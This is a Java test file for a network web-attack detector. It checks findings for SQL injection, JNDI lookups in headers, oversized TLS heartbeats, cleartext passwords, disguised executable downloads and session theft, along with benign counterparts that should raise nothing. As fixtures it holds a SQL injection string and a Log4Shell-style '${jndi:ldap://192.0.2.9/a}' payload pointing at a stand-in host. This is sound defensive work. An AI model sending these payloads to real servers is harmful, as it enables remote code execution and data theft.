package io.hark.detect.web;

import static io.hark.detect.web.Requests.CLIENT;
import static io.hark.detect.web.Requests.SERVER;
import static io.hark.detect.web.Requests.THIRD;
import static io.hark.detect.web.Requests.found;
import static org.assertj.core.api.Assertions.assertThat;

import io.hark.detect.MadeSsl;
import io.hark.event.Finding;
import io.hark.event.Finding.Severity;
import java.util.List;
import org.junit.jupiter.api.Test;

class WebDetectorsTest {

    private final Requests requests = new Requests();

    @Test
    void sql_in_a_target_is_an_attack_and_a_search_for_it_is_not() {
        Finding finding =
                found(new WebAttack(), List.of(requests.get("/item?id=%27+or+%271%27%3D%271")))
                        .getFirst();
        assertThat(finding.severity()).isEqualTo(Severity.MEDIUM);
        assertThat(finding.techniques()).containsExactly("T1190");
        assertThat(finding.orig_h()).isEqualTo(CLIENT);
        assertThat(finding.resp_h()).isEqualTo(SERVER);
        assertThat(found(new WebAttack(), List.of(requests.get("/search?q=select+a+union"))))
                .isEmpty();
    }

    @Test
    void a_look_up_in_any_header_is_high() {
        Finding finding =
                found(
                                new WebAttack(),
                                List.of(
                                        requests.get(
                                                CLIENT,
                                                "/",
                                                "Browser/1.0",
                                                List.of("${jndi:ldap://192.0.2.9/a}"),
                                                null)))
                        .getFirst();
        assertThat(finding.severity()).isEqualTo(Severity.HIGH);
    }

    @Test
    void a_sign_in_a_body_counts_as_one_in_a_target() {
        assertThat(found(new WebAttack(), List.of(requests.body(List.of("COMMAND")))))
                .extracting(Finding::severity)
                .containsExactly(Severity.MEDIUM);
        assertThat(found(new WebAttack(), List.of(requests.body(List.of("PASSWORD"))))).isEmpty();
    }

    @Test
    void a_heartbeat_that_brings_memory_back_is_told_with_how_much() {
        Finding finding =
                found(new WebAttack(), List.of(MadeSsl.withHeartbeats("CBsb", 16_384L))).getFirst();
        assertThat(finding.severity()).isEqualTo(Severity.HIGH);
        assertThat(finding.why()).contains("16384 octets more than were sent");
        assertThat(found(new WebAttack(), List.of(MadeSsl.withHeartbeats("CBs", null))))
                .extracting(Finding::severity)
                .containsExactly(Severity.HIGH);
    }

    @Test
    void a_password_in_a_form_is_told_and_not_shown() {
        Finding finding =
                found(new ClearSecret(), List.of(requests.body(List.of("PASSWORD")))).getFirst();
        assertThat(finding.severity()).isEqualTo(Severity.MEDIUM);
        assertThat(finding.techniques()).contains("T1040");
        assertThat(found(new ClearSecret(), List.of(requests.get("/login")))).isEmpty();
    }

    @Test
    void a_program_from_a_bare_address_in_disguise_is_high() {
        assertThat(
                        found(
                                new ProgramFetch(),
                                List.of(
                                        requests.answer(
                                                "application/x-dosexec",
                                                "192.0.2.7",
                                                "/logo.png",
                                                "Browser/1.0",
                                                "image/png"))))
                .extracting(Finding::severity)
                .containsExactly(Severity.HIGH);
    }

    @Test
    void a_program_with_its_name_from_a_named_server_is_how_software_comes() {
        assertThat(
                        found(
                                new ProgramFetch(),
                                List.of(
                                        requests.answer(
                                                "application/x-dosexec",
                                                "download.example.test",
                                                "/setup.exe?v=2",
                                                "Browser/1.0",
                                                "application/octet-stream"))))
                .isEmpty();
    }

    @Test
    void a_session_from_a_second_address_is_taken() {
        Finding finding =
                found(
                                new SessionTaken(),
                                List.of(
                                        requests.get(CLIENT, "/", "Browser/1.0", null, 7L),
                                        requests.get(THIRD, "/", "Other/2.0", null, 7L)))
                        .getFirst();
        assertThat(finding.severity()).isEqualTo(Severity.MEDIUM);
        assertThat(finding.orig_h()).isEqualTo(THIRD);
        assertThat(finding.techniques()).contains("T1539");
    }

    @Test
    void two_hosts_with_sessions_of_their_own_are_nothing() {
        assertThat(
                        found(
                                new SessionTaken(),
                                List.of(
                                        requests.get(CLIENT, "/", "Browser/1.0", null, 7L),
                                        requests.get(THIRD, "/", "Browser/1.0", null, 8L),
                                        requests.get(CLIENT, "/a", "Browser/1.0", null, 7L))))
                .isEmpty();
    }
}
